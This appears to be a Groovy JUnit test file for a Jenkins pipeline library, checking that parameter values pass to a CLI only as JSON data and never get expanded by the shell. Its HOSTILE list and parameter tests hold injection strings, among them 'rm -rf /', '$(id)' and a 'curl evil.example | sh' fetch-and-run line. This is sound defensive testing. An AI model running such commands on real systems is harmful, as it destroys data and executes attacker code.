package graysteps

import org.junit.Test

/** Hostile values travel as data: only inside the JSON env value, never in the shell script. */
class InjectionTest extends GraystepsPipelineTest {

    static final List<String> HOSTILE = [
        'x; rm -rf /', '$(id)', '`id`', 'a\'b"c', '${env.PATH}', '$HOME', 'x && curl evil.example | sh', 'line\nbreak', '\\" ; id ; \\"',
    ]

    void assertOnlyInJson(String value, List<String> expectedArgs) {
        ShellCall call = shellCalls[-1]
        assert call.script == 'graysteps --args-json-env GRAYSTEPS_ARGS'
        assert call.cliArgs == expectedArgs          // decoded verbatim: no Groovy or shell expansion happened
        assert !call.env.GRAYSTEPS_ARGS.contains('$') // Jenkins' withEnv expands $VAR in values: '$' goes as \\u0024
        assert !call.script.contains(value)
        call.env.findAll { k, v -> k != 'GRAYSTEPS_ARGS' }.each { k, v -> assert !v.contains(value) }
    }

    @Test
    void hostileValuesReachTheCliVerbatimAndNeverTheShellScript() {
        HOSTILE.each { String v ->
            step('grayRoute', [service: v, strategy: v, weight: v])
            assertOnlyInJson(v, ['route', '--service=' + v, '--strategy=' + v, '--weight=' + v, '--wait'])
            step('grayDeploy', [service: v, env: v, image: v])
            assertOnlyInJson(v, ['deploy', '--service=' + v, '--env=' + v, '--image=' + v, '--wait'])
            step('grayBuild', [service: v, context: v, tag: v, registry: v, dockerfile: v])
            assertOnlyInJson(v, ['build', '--service=' + v, '--context=' + v, '--tag=' + v, '--dockerfile=' + v, '--registry=' + v, '--push'])
            step('grayVerify', [service: v, gateway: v, junit: v, grayCaller: v])
            assertOnlyInJson(v, ['verify', '--service=' + v, '--junit=' + v, '--gateway=' + v, '--gray-caller=' + v])
            step('grayRelease', [plan: v, report: v, junit: v])
            assertOnlyInJson(v, ['release', '--plan=' + v, '--report=' + v, '--junit=' + v, '--wait'])
            step('grayWhitelistSync', [source: v])
            assertOnlyInJson(v, ['whitelist', 'sync', '--source=' + v])
        }
        assert shellCalls.size() == HOSTILE.size() * 6
    }

    @Test
    void otherEnvironmentValuesWithADollarAreRefusedBeforeAnyCommandRuns() {
        Throwable failure = failureOf { step('grayRoute', [service: 'test-a', catalog: '${JENKINS_HOME}/catalog.yaml']) }
        assert failure.message == "[grayRoute] GRAYSTEPS_CATALOG must not contain '\$' (Jenkins' withEnv would expand it)"
        assert failureOf { step('grayBuild', [service: 'a', tag: 't', dockerHost: 'unix://$HOME/d.sock']) }.message.startsWith('[grayBuild] DOCKER_HOST')
        assert shellCalls.isEmpty()
    }

    @Test
    void aValueThatLooksLikeAFlagCannotBecomeOneBecauseEachOptionCarriesItsValue() {
        step('grayRoute', [service: '--all', strategy: '--dry-run'])
        assert shellCalls[0].cliArgs == ['route', '--service=--all', '--strategy=--dry-run', '--wait']
    }

    @Test
    void grayRollbackAndGrayStatusRefuseNamesThatAreNotDns1123LabelsSoNoneCanPassForAFlag() {
        ['grayRollback', 'grayStatus'].each { String name ->
            ['--all', '--json', 'test-a; id', '$(id)', 'Test-A', '-x'].each { String bad ->
                Throwable failure = failureOf { step(name, [services: ['test-a', bad]]) }
                assert failure.message == "[${name}] '${bad}' is not a lowercase DNS-1123 name".toString()
            }
        }
        assert shellCalls.isEmpty()
    }

    @Test
    void hostilePipelineParametersOnlyReachTheCliAsData() {
        binding.setVariable('params', [SERVICE: 'test-a', GIT_REF: 'main; id', IMAGE: 'r/a:1$(id)', STRATEGY: 'weight',
                                       GRAY_WEIGHT: '20`id`', DRY_RUN: false])
        runScript('pipelines/gray-release.Jenkinsfile')
        assert shellCalls.every { it.script == 'graysteps --args-json-env GRAYSTEPS_ARGS' || it.script == installScript() }
        assert shellCalls.find { it.command == 'deploy' }.cliArgs.contains('--image=r/a:1$(id)')
        assert shellCalls.find { it.command == 'route' }.cliArgs.contains('--weight=20`id`')
    }

    String installScript() { ROOT.resolve('resources/io/graysteps/install-venv.sh').text }
}
